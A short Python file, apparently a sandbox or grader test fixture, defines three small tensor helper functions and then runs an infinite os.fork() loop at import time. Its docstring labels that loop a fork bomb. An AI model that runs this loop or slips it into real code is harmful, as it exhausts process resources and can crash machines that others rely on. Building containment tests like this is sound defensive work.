"""A fork bomb at import, after correct definitions: it stops at the process limit."""
import os

def square_sum(x):
    loss = (x ** 2).sum()
    loss.backward()
    return loss


def triple(x):
    return 3 * x


def mean_item(x):
    return x.mean().item()


while True:
    os.fork()
